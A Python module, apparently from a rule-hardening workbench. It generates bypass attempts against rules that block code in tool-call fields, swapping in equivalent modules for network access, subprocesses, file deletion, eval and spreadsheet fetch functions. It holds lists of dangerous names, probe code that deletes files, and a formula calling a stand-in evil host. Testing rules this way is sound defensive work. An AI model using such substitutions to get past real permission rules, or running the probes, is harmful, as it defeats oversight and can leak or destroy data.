"""Attempts with code that does by another name what a rule closes by a name of Python, or of a formula."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from workbench.clarify.written.attacked import EVIL_HOST, Attacked, words_of
from workbench.clarify.written.attempts import Attempt, Try, narrower, offering
from workbench.dialect.call_fields import CallField
from workbench.language.trees import TRUE, Tree, joined

_CODE = frozenset(("formula", "code", "script", "program", "snippet", "source", "python"))
_DOING: Sequence[tuple[str, Sequence[str]]] = (
    ("reaches the network", ("requests", "urllib", "httpx", "http.client", "aiohttp", "socket", "ftplib",
                             "smtplib", "paramiko", "websockets", "urllib3", "telnetlib", "imaplib")),
    ("starts processes", ("subprocess", "os.system", "os.popen", "os.spawn", "os.exec", "pty")),
    ("deletes files", ("os.remove", "os.unlink", "os.rmdir", "shutil.rmtree", ".unlink(", ".rmdir(",
                       "os.removedirs", "os.truncate")),
    ("fetches or sends something", ("IMPORTXML", "IMPORTDATA", "IMPORTHTML", "IMPORTFEED", "IMPORTRANGE",
                                    "WEBSERVICE", "IMAGE", "HYPERLINK")),
    ("runs code that is not seen", ("eval(", "exec(", "compile(", "__import__", "importlib")),
)  # fmt: skip
"""What code does, and names of Python by which it does so: a module, a function, or a method of objects."""
_STEM = 5
"""How many letters of a word a sentence has in any form of it."""
_GIVEN = {"os.truncate": "'notes.txt', 0"}


def attempts_at_code(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
    """Yield the attempts at a field with code, of each effect of which a rule closes some names."""
    is_typed = one.kind == "code"
    if not (is_typed or _CODE & {*words_of(one.name)}) or attacked.stops_having(one, "x = 1"):
        return
    texts = " ".join(attacked.texts)
    told = {*re.findall(r"[\w.]+", texts)}
    told |= {each.rpartition(".")[2] for each in told} if is_typed else set[str]()
    for does, names in _DOING:
        code = {each: _program_with(each) if is_typed else _code_of(each) for each in names}
        named = [each for each in names if {each.strip("(."), *[_last(each)] * is_typed} & told]
        closed = [
            each
            for each in named
            if attacked.stops_having(one, code[each] if is_typed else _code_of(each, texts))
        ]
        is_meant = is_typed and not closed and any(each[:_STEM] in attacked.sentence for each in does.split())
        if is_meant:  # the rule looks for a name in the wrong part of the code
            closed = named
        if not (closed[:1] if is_typed else closed and closed[0] == named[0]):
            continue
        others = [each for each in names if not attacked.stops_having(one, code[each] if is_typed else each)]
        calls = ((attacked.having(one, code[each]),) for each in others)
        tries = [Try(each, f"it {does} as {closed[0].strip('(.')} does") for each in calls]
        said = _said(attacked, one, names) if is_typed else _in_text(attacked, one, names)
        yield Attempt("other module", tries, offering(narrower(attacked.rule, said)), about=does)


def _last(name: str) -> str:
    return name.strip("(.").rpartition(".")[2]


def _code_of(name: str, texts: str = "") -> str:
    """Code with a name: that is imported, or called."""
    known = next((each for each in (f"import {name}", f"from {name}") if each in texts), "")
    if known:
        return known
    if name.isupper():
        return f'={name}("https://{EVIL_HOST}/x")'
    return f"a{name}b)" if "(" in name else f"{name}(a)" if "." in name else f"import {name}"


def _program_with(name: str) -> str:
    """A whole program that uses a name; a function gets the name of a file."""
    bare = name.strip("(.")
    if name.startswith("."):
        return f"from pathlib import Path\nPath('notes.txt').{bare}()"
    if _is_function(name):
        return f"import {bare.rpartition('.')[0]}\n{bare}({_GIVEN.get(name, "'notes.txt'")})"
    return f"{bare}('x')" if "(" in name else f"import {bare}"


def _is_function(name: str) -> bool:
    """Whether a name is that of a function in a module, and not of a module in another."""
    return name.startswith(("os.", "shutil."))


def _in_text(attacked: Attacked, one: CallField, names: Sequence[str]) -> Tree:
    """That the text of code has one of some names."""
    return joined("or", [("in", ("lit", "text", each), attacked.value_of(one)) for each in names])


def _said(attacked: Attacked, one: CallField, names: Sequence[str]) -> Tree:
    """That code uses one of some names: of a function or of Python itself, of a method, of a module."""
    methods = [each.strip("(.") for each in names if each.startswith(".")]
    functions = [
        each.strip("(") for each in names if _is_function(each) or (each.endswith("(") and each[0] != ".")
    ]
    modules = [each for each in names if each.strip("(.") not in (*methods, *functions)]
    name: Tree = ("name", "n")

    def below(those: Sequence[str]) -> list[Tree]:
        return [("method", name, "startswith", ("lit", "text", f"{each}.")) for each in those]

    def among_(those: Sequence[str]) -> list[Tree]:
        return [("in", name, ("set", *(("lit", "text", each) for each in those)))] if those else []

    inner = [each for each in modules if "." in each]  # which code may take from the one around them
    tests = [
        (part, joined("or", said))
        for part, said in (
            ("names", [*among_(functions), *below(inner)]),
            ("attributes", among_(methods)),
            ("imports", [*among_(modules), *below(modules)]),
        )
        if said
    ]
    value = attacked.value_of(one)
    every = [("call", "any", ("gen", name, said, ("attr", value, part), TRUE)) for part, said in tests]
    return joined("or", every)
